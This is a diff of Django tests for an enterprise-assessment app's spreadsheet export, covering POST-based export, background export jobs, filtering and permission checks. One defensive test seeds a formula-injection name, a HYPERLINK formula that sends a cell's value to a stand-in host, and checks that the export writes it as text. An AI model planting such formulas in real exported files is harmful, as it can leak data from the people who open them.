@@ -2,14 +2,18 @@
 
 from io import BytesIO
 
+from django.test import override_settings
 from django.urls import reverse
+from django.utils.http import urlencode
 from django.utils.translation import gettext as _
 from openpyxl import load_workbook
 
 from smedx.assessments import standing
+from smedx.assessments.forms.officer import filtered_assessments
 from smedx.assessments.levels import level_label
 from smedx.assessments.loader import load_bundled
 from smedx.assessments.models import Assessment
+from smedx.core.models import ExportJob
 from smedx.testing import PersonaTestCase, make_enterprise
 from smedx.testing.answer_sets import best, middling, scenes, worst
 from smedx.testing.assessments import make_assessment
@@ -41,6 +45,11 @@ class OfficerListTestCase(PersonaTestCase):
         self.login(user)
         return self.client.get(url, query)
 
+    def export(self, user, **query):
+        """The export button posts the list's filters in the query string."""
+        self.login(user)
+        return self.client.post(f"{EXPORT}?{urlencode(query)}")
+
 
 class OfficerListTests(OfficerListTestCase):
     def test_it_shows_a_district_officer_the_assessments_of_the_district(self):
@@ -66,7 +75,7 @@ class OfficerListTests(OfficerListTestCase):
     def test_it_answers_405_to_a_post(self):
         self.login(self.city)
         self.assertEqual(self.client.post(LIST).status_code, 405)
-        self.assertEqual(self.client.post(EXPORT).status_code, 405)
+        self.assertEqual(self.client.get(EXPORT).status_code, 405)
 
     def test_it_filters_by_each_field(self):
         cases = [
@@ -216,13 +225,13 @@ class ExportTests(OfficerListTestCase):
             response["Content-Type"], "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
         )
         self.assertIn("attachment;", response["Content-Disposition"])
-        sheet = load_workbook(BytesIO(response.content), read_only=True).active
+        sheet = load_workbook(BytesIO(response.getvalue()), read_only=True).active
         rows = [list(row) for row in sheet.iter_rows(values_only=True)]
         # Rows written in write-only mode stop at their last value.
         return [row + [None] * (len(rows[0]) - len(row)) for row in rows]
 
     def test_it_exports_the_visible_rows_with_scores(self):
-        rows = self.rows(self.get(self.district, EXPORT))
+        rows = self.rows(self.export(self.district))
         header, *data = rows
         self.assertEqual(header[:3], [_("Enterprise name"), _("Unified social credit code"), _("District")])
         self.assertIn("B 数字化基础", header)
@@ -237,11 +246,23 @@ class ExportTests(OfficerListTestCase):
         draft = by_period[("测试企业乙", "T0")]
         self.assertEqual((draft["total"], draft["level"], draft["B"]), (None, None, None))
 
+    def test_it_exports_a_long_list_in_the_worker_with_the_same_rows(self):
+        at_once = self.rows(self.export(self.city, period="T0"))
+        with override_settings(EXPORT_INLINE_ROWS=1):
+            response = self.export(self.city, period="T0")
+        job = ExportJob.objects.latest("id")
+        self.assertRedirects(response, reverse("core:export_detail", args=[job.pk]))
+        self.assertEqual((job.status, job.in_background, job.kind), ("done", True, "assessments.assessment"))
+        written = self.rows(self.client.get(reverse("core:export_download", args=[job.pk])))
+        self.assertEqual(written, at_once)
+        _form, qs = filtered_assessments(self.city, {"period": "T0"})
+        self.assertEqual(len(written) - 1, qs.count())
+
     def test_it_exports_a_name_that_looks_like_a_formula_as_text(self):
         name = '=HYPERLINK("http://x/?"&B2,"点击")'
         make_assessment(make_enterprise(self.home_region, name), middling(), period="T0")
-        response = self.get(self.district, EXPORT)
-        sheet = load_workbook(BytesIO(response.content)).active
+        response = self.export(self.district)
+        sheet = load_workbook(BytesIO(response.getvalue())).active
         row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == name)
 
         self.assertEqual(row[0].data_type, "s")
@@ -249,13 +270,13 @@ class ExportTests(OfficerListTestCase):
         self.assertEqual((total.data_type, total.value), ("n", 65.25))
 
     def test_it_exports_what_the_filters_leave(self):
-        rows = self.rows(self.get(self.city, EXPORT, level="0"))
+        rows = self.rows(self.export(self.city, level="0"))
         self.assertEqual([row[0] for row in rows[1:]], ["江北测试企业"])
 
     def test_it_refuses_people_without_the_right(self):
         for user in (self.enterprise_user, self.expert, self.outsider):
             with self.subTest(user=user.username):
-                self.assertEqual(self.get(user, EXPORT).status_code, 403)
+                self.assertEqual(self.export(user).status_code, 403)
 
     def test_it_links_the_export_with_the_filters(self):
         response = self.get(self.city, period="T1")
